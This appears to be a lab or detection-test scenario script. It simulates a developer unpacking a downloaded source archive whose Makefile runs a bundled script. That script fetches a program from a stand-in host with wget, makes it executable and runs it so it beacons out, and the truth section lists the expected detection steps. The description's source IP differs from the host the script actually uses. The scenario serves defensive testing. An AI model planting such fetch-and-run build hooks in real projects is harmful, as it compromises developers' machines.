# Sources from a stranger: make is execution too.
title="Source archive downloaded in the browser, make runs what it brought"
what="dev downloads libfmt-fix.zip with Firefox from a file sharing site, unpacks it below /tmp and runs make. The Makefile runs a script of the archive, which fetches a program from 203.0.113.66 into ~/.cache and starts it."
host=ws3.example.org user=dev daemons="cron" syslog_format=iso

setup() {
  mkdir -p "$base/out/t/libfmt-fix/scripts"
  printf 'all:\n\t@sh scripts/configure.sh\n\t@echo built\n' > "$base/out/t/libfmt-fix/Makefile"
  printf 'mkdir -p ~/.cache/fmt\nwget -q -O ~/.cache/fmt/cc1 http://drop.example.net/cc1\nchmod +x ~/.cache/fmt/cc1\n~/.cache/fmt/cc1 203.0.113.67 8443 >/dev/null\n' > "$base/out/t/libfmt-fix/scripts/configure.sh"
  (cd "$base/out/t" && zip -qr "$base/out/www/libfmt-fix.zip" libfmt-fix)
  cc -O1 -o "$base/out/www/cc1" "$lab/lib/stand-ins/beacon.c"
}
act() {
  display_up
  small_talk 2
  firefox_save dev http://files.example.net/libfmt-fix.zip libfmt-fix.zip
  console_as dev <<'L'
cd /tmp
unzip -q ~/Downloads/libfmt-fix.zip
cd libfmt-fix; ls
make
cd; rm -rf /tmp/libfmt-fix
L
}
truth() {
  file_step save 'firefox-esr rename.*/home/dev/Downloads/libfmt-fix.zip' 'the browser saves the archive'
  exec_step unpack 'unzip -q /home/dev/Downloads/libfmt-fix.zip' 'it is unpacked'
  exec_step make '/make make' 'make starts'
  exec_step script 'sh scripts/configure.sh' 'and runs a script of the archive'
  exec_step execute 'cc1 203.0.113.67 8443' 'which starts a program it fetched'
  net_step beacon 'cc1 203.0.113.67:8443' 'that calls out'
}
